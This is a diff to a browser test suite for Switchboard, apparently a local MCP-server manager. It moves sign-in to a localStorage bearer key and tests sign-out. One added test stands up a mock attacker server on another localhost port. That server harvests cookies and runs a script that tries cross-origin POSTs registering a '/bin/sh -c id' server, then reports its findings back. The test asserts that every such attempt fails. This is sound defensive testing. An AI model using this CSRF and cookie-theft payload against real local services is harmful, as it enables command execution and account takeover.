@@ -1,5 +1,6 @@
 import type { ChildProcess } from 'node:child_process';
-import { cpSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { cpSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { createServer } from 'node:http';
 import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import type { Browser, BrowserContext, Page } from 'playwright-core';
@@ -12,6 +13,7 @@ import {
   ARTIFACTS,
   launchChromium,
   requireBuiltUi,
+  SESSION_STORAGE_KEY,
   type Figure,
   writeFigures,
 } from './browser.ts';
@@ -207,15 +209,28 @@ describe('the UI in Chromium against a real `switchboard serve`', () => {
     expect((await fetch(`${origin}/api/status`)).status).toBe(401);
   });
 
-  it('signs in with the printed one-time link: cookie only, nothing left in the address bar', async () => {
+  it('signs in with the printed one-time link: a key only this origin can read, no cookie, nothing left in the address bar', async () => {
     await page.goto(loginUrl);
     await heading('Servers').waitFor();
     expect(page.url()).toBe(`${origin}/`);
-    const cookies = await context.cookies(origin);
-    expect(cookies).toHaveLength(1);
-    expect(cookies[0]).toMatchObject({ httpOnly: true, sameSite: 'Strict', path: '/' });
+    // The code is gone from the history too: going back does not reach it.
+    await page.goBack();
+    expect(page.url()).not.toContain('code=');
+    await page.goForward();
+    await heading('Servers').waitFor();
+    expect(await context.cookies()).toEqual([]);
     expect(await page.evaluate('document.cookie')).toBe('');
-    expect(await page.evaluate('localStorage.length + sessionStorage.length')).toBe(0);
+    const stored = JSON.parse(
+      String(await page.evaluate(`localStorage.getItem(${JSON.stringify(SESSION_STORAGE_KEY)})`)),
+    ) as { session: string; expiresAt: number };
+    expect(stored.session).toMatch(/^[A-Za-z0-9_-]{43}$/);
+    expect(stored.expiresAt).toBeGreaterThan(Date.now() + 29 * 24 * 3_600_000);
+    // That key is the credential, sent as a header: with it the API answers, without it not.
+    expect((await fetch(`${origin}/api/status`)).status).toBe(401);
+    const withKey = await fetch(`${origin}/api/status`, {
+      headers: { authorization: `Bearer ${stored.session}` },
+    });
+    expect(withKey.status).toBe(200);
     await page.getByText('No servers yet').waitFor();
     await shot('01-servers-empty');
 
@@ -226,8 +241,83 @@ describe('the UI in Chromium against a real `switchboard serve`', () => {
     await second.getByRole('heading', { name: 'Sign in to Switchboard', exact: true }).waitFor();
     await second.getByText('already used or has expired').waitFor();
     expect(second.url()).toBe(`${origin}/`);
+    expect(await second.evaluate('localStorage.length')).toBe(0);
     await second.screenshot({ path: join(ARTIFACTS, '00-signed-out.png') });
     await other.close();
+  });
+
+  it('a page on another port of 127.0.0.1, opened in the signed-in browser, gets nothing and can do nothing', async () => {
+    // Another local user's web server: its page redirects once to itself (so the browser's second
+    // request carries whatever it holds for 127.0.0.1), then tries to act on Switchboard from inside
+    // the browser. It keeps every Cookie header it sees and what its script found.
+    const harvested: string[] = [];
+    let report: Record<string, string> | undefined;
+    const target = origin;
+    const script = `(async () => {
+      const body = JSON.stringify({ name: 'pwned', config: { command: '/bin/sh', args: ['-c', 'id'] } });
+      const found = {};
+      try {
+        const r = await fetch('${target}/api/servers', { method: 'POST', credentials: 'include',
+          headers: { 'content-type': 'application/json' }, body });
+        found.cors = 'answered ' + r.status;
+      } catch { found.cors = 'blocked'; }
+      try {
+        await fetch('${target}/api/servers', { method: 'POST', mode: 'no-cors', credentials: 'include',
+          headers: { 'content-type': 'text/plain' }, body });
+        found.simple = 'sent';
+      } catch { found.simple = 'blocked'; }
+      try {
+        const r = await fetch('${target}/api/status', { credentials: 'include' });
+        found.read = 'answered ' + r.status;
+      } catch { found.read = 'blocked'; }
+      found.storage = String(localStorage.length) + ' ' + document.cookie;
+      await fetch('/report', { method: 'POST', body: JSON.stringify(found) });
+    })();`;
+    const attacker = createServer((req, res) => {
+      if (req.headers.cookie) harvested.push(req.headers.cookie);
+      if (req.url === '/report') {
+        let text = '';
+        req.on('data', (d: Buffer) => (text += d.toString()));
+        req.on('end', () => {
+          report = JSON.parse(text) as Record<string, string>;
+          res.end();
+        });
+        return;
+      }
+      if (req.url === '/') return void res.writeHead(302, { location: '/again' }).end();
+      res.writeHead(200, { 'content-type': 'text/html' }).end(`<p>a page</p><script>${script}</script>`);
+    });
+    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
+    const address = attacker.address();
+    const attackerUrl = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}/`;
+    const tab = await context.newPage();
+    try {
+      await tab.goto(attackerUrl);
+      await waitFor(() => report, 15_000, "the other port's page to report");
+      expect(report).toMatchObject({ cors: 'blocked', read: 'blocked', storage: '0 ' });
+      // What its owner got, replayed from outside the browser with Switchboard's own Origin forged.
+      const stolen = harvested.at(-1);
+      const add = await fetch(`${origin}/api/servers`, {
+        method: 'POST',
+        headers: {
+          ...(stolen ? { cookie: stolen } : {}),
+          origin,
+          'content-type': 'application/json',
+        },
+        body: JSON.stringify({ name: 'pwned', config: { command: '/bin/sh', args: ['-c', 'id'] } }),
+      });
+      expect(add.status).toBe(401);
+      expect(harvested.join('\n')).not.toContain('switchboard');
+    } finally {
+      await tab.close();
+      await new Promise<void>((resolve) => attacker.close(() => resolve()));
+    }
+    expect(existsSync(t.home.serversFile) ? readFileSync(t.home.serversFile, 'utf8') : '').not.toContain(
+      'pwned',
+    );
+    // and the person's own page is still signed in and shows nothing new
+    await page.reload();
+    await page.getByText('No servers yet').waitFor();
   });
 
   it('adds server-everything through the form; it appears waiting for approval', async () => {
@@ -256,7 +346,7 @@ describe('the UI in Chromium against a real `switchboard serve`', () => {
     const card = page.locator('article[data-approval="everything"]');
     await card.waitFor();
     expect(await card.getByTestId('approval-command').textContent()).toBe(
-      `command: ${command} ${args.join(' ')}`,
+      `command: ${command} ${args.join(' ')}\nruns in: ${join(t.home.data, 'everything')} (its own folder)`,
     );
     await card.getByText('this window (added or changed here)').waitFor();
     await shot('03-approvals');
@@ -410,7 +500,7 @@ describe('the UI in Chromium against a real `switchboard serve`', () => {
     // npx as PATH resolves it: the exact program that would run (and the real file, where npx is a
     // symlink, as it is in most installs).
     expect(await card.getByTestId('approval-command').textContent()).toMatch(
-      /^command: \/\S*\/npx -y @modelcontextprotocol\/server-github\n(?:real file: \/\S+\n)?env GITHUB_PERSONAL_ACCESS_TOKEN=\$\{secret:github-token\}$/,
+      /^command: \/\S*\/npx -y @modelcontextprotocol\/server-github\n(?:real file: \/\S+\n)?runs in: \/\S+\/data\/github \(its own folder\)\nenv GITHUB_PERSONAL_ACCESS_TOKEN=\$\{secret:github-token\}$/,
     );
     expect(await card.getByTestId('approval-references').textContent()).toMatch(
       /^gives your keychain secret "github-token" to \/\S+ in env GITHUB_PERSONAL_ACCESS_TOKEN$/,
@@ -532,7 +622,8 @@ describe('the UI in Chromium against a real `switchboard serve`', () => {
       );
     const inView = async (name: string) => {
       const box = await page.locator(`article[data-approval="${name}"]`).boundingBox();
-      return box !== null && box.y >= 0 && box.y + Math.min(box.height, 200) <= height;
+      // (a card scrolled to the top may sit a fraction of a pixel above it: layout is in subpixels)
+      return box !== null && box.y > -1 && box.y + Math.min(box.height, 200) <= height;
     };
     try {
       // The desktop app opening its window on the link (a fresh load of the page).
@@ -658,6 +749,10 @@ describe('the UI in Chromium against a real `switchboard serve`', () => {
     await autoSync.click();
     await page.getByText('gets each server you approve').waitFor();
     await expect.poll(saved).not.toHaveProperty('autoSync');
+    // This browser's sign-in: how long it lasts, and how to end it.
+    const browsers = page.getByTestId('browser-sign-ins');
+    await browsers.getByText(/This one until/).waitFor();
+    await browsers.getByRole('button', { name: 'Sign out this browser' }).waitFor();
     const tokens = page.getByTestId('tokens-table');
     await tokens.getByRole('rowheader', { name: 'cursor' }).waitFor();
     await shot('12-settings');
@@ -689,11 +784,12 @@ describe('the UI in Chromium against a real `switchboard serve`', () => {
 
   it('in the desktop app, Settings switches start at login through the shell, and says when that fails', async () => {
     // The desktop app's preload bridge (window.switchboard), stood in for by a page script: control-API
-    // requests go to this `serve` (signed-in cookie), start at login is kept here, as the shell keeps it.
-    const link = await runCli(['ui'], t.env);
-    const fresh = /Open the UI: (\S+)/.exec(link.stdout)?.[1] ?? '';
+    // requests go to this `serve` with the control token (as the shell relays them), start at login is
+    // kept here, as the shell keeps it. The page never signs in: it has the bridge.
+    const control = readFileSync(join(t.home.tokens, 'control'), 'utf8').trim();
     const desktop = await browser.newContext({ viewport: VIEWPORT });
     await desktop.addInitScript(`(() => {
+      const auth = { authorization: 'Bearer ${control}' };
       // kept across reloads, as the system keeps the login item
       let startAtLogin = sessionStorage.getItem('startAtLogin') === 'true';
       window.__shellCalls = [];
@@ -701,8 +797,9 @@ describe('the UI in Chromium against a real `switchboard serve`', () => {
         async request({ method, path, body }) {
           const res = await fetch(path, {
             method,
-            credentials: 'same-origin',
-            ...(body === undefined ? {} : { headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) }),
+            ...(body === undefined
+              ? { headers: auth }
+              : { headers: { ...auth, 'content-type': 'application/json' }, body: JSON.stringify(body) }),
           });
           const text = await res.text();
           let json = text ? JSON.parse(text) : null;
@@ -718,15 +815,30 @@ describe('the UI in Chromium against a real `switchboard serve`', () => {
           }
         },
         onEvent(listener) {
-          const source = new EventSource('/api/events');
-          source.onmessage = (m) => listener(JSON.parse(m.data));
-          return () => source.close();
+          const controller = new AbortController();
+          void (async () => {
+            const res = await fetch('/api/events', { headers: auth, signal: controller.signal });
+            const reader = res.body.pipeThrough(new TextDecoderStream()).getReader();
+            let buffer = '';
+            for (;;) {
+              const { done, value } = await reader.read();
+              if (done) return;
+              buffer += value;
+              let end;
+              while ((end = buffer.indexOf('\\n\\n')) >= 0) {
+                const data = buffer.slice(0, end).split('\\n').filter((l) => l.startsWith('data: '));
+                buffer = buffer.slice(end + 2);
+                if (data.length) listener(JSON.parse(data.map((l) => l.slice(6)).join('\\n')));
+              }
+            }
+          })().catch(() => {});
+          return () => controller.abort();
         },
       };
     })()`);
     const app = await desktop.newPage();
     try {
-      await app.goto(fresh);
+      await app.goto(`${origin}/`);
       await app.getByRole('heading', { name: 'Servers', exact: true }).waitFor();
       await app.evaluate("window.location.hash = '#/settings'");
       const toggle = app.getByRole('switch', { name: 'Start Switchboard when you log in' });
@@ -916,5 +1028,16 @@ describe('the UI in Chromium against a real `switchboard serve`', () => {
       .getByRole('button', { name: 'Delete' })
       .click();
     await page.getByRole('button', { name: 'Delete pasted-github_token' }).click();
+  });
+
+  it('signs this browser out from Settings: its key is forgotten here and by Switchboard', async () => {
+    const key = String(await page.evaluate(`localStorage.getItem(${JSON.stringify(SESSION_STORAGE_KEY)})`));
+    const { session } = JSON.parse(key) as { session: string };
+    await go('#/settings');
+    await page.getByTestId('browser-sign-ins').getByRole('button', { name: 'Sign out this browser' }).click();
+    await heading('Sign in to Switchboard').waitFor();
+    expect(await page.evaluate('localStorage.length')).toBe(0);
+    const res = await fetch(`${origin}/api/status`, { headers: { authorization: `Bearer ${session}` } });
+    expect(res.status).toBe(401);
   });
 });
